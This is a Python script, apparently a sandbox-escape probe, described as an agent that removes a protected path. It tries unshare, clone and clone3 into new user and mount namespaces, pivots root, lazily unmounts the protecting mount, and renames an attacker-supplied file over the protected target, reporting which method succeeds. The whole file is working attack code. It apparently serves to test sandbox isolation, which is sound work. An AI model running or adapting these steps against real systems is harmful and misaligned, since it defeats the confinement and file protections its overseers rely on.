"""An agent that takes a protected path away: a mount namespace of its own, the mounts detached there,
a rename by descriptor.

without_mounts.py DIRECTORY NAME EVIL: EVIL (a path) takes the place of DIRECTORY/NAME. Says how far it got.
"""

import ctypes
import os
import sys

NEWNS, NEWUSER, NEWPID = 0x20000, 0x10000000, 0x20000000
BIND, REC, DETACH = 4096, 16384, 2
SIGCHLD = 17
libc = ctypes.CDLL(None, use_errno=True)


def ways() -> dict[str, object]:
    return {
        "unshare": lambda: libc.unshare(NEWUSER | NEWNS),
        "clone": lambda: cloned(NEWUSER | NEWNS),
        "clone with a pid namespace": lambda: cloned(NEWUSER | NEWNS | NEWPID),
        "clone3": cloned3,
        "no namespace at all": lambda: 0,
    }


def cloned(flags: int) -> int:
    pid = libc.syscall(56 if os.uname().machine == "x86_64" else 220, flags | SIGCHLD, 0, 0, 0, 0)
    return waited(pid)


def cloned3() -> int:
    arguments = (ctypes.c_uint64 * 8)(NEWUSER | NEWNS, 0, 0, 0, SIGCHLD, 0, 0, 0)
    return waited(libc.syscall(435, arguments, 64))


def waited(pid: int) -> int:
    if pid > 0:
        os.waitpid(pid, 0)
        os._exit(0)
    return pid


def attack(directory: int, name: str, evil: int, evil_name: str) -> str:
    libc.mount(b"none", b"/", None, REC | (1 << 18), None)
    os.makedirs("/tmp/root", exist_ok=True)
    libc.mount(b"tmpfs", b"/tmp/root", b"tmpfs", 0, None)
    os.makedirs("/tmp/root/old", exist_ok=True)
    os.chdir("/tmp/root")
    pivoted = libc.syscall(155 if os.uname().machine == "x86_64" else 41, b".", b"old")
    detached = libc.umount2(b"/old" if pivoted == 0 else f"/proc/self/fd/{directory}/{name}".encode(), DETACH)
    try:
        os.rename(evil_name, name, src_dir_fd=evil, dst_dir_fd=directory)
    except OSError as error:
        return f"held: {error.strerror}"
    return f"replaced (pivot_root {pivoted}, umount2 {detached})"


def main() -> None:
    where, name, evil_path = sys.argv[1:]
    for way, entered in ways().items():
        if pid := os.fork():
            os.waitpid(pid, 0)
            continue
        directory = os.open(where, os.O_RDONLY)
        evil = os.open(os.path.dirname(evil_path), os.O_RDONLY)
        result = entered()
        said = "refused" if result < 0 else attack(directory, name, evil, os.path.basename(evil_path))
        print(f"{way}: {said}", flush=True)
        os._exit(0)


main()
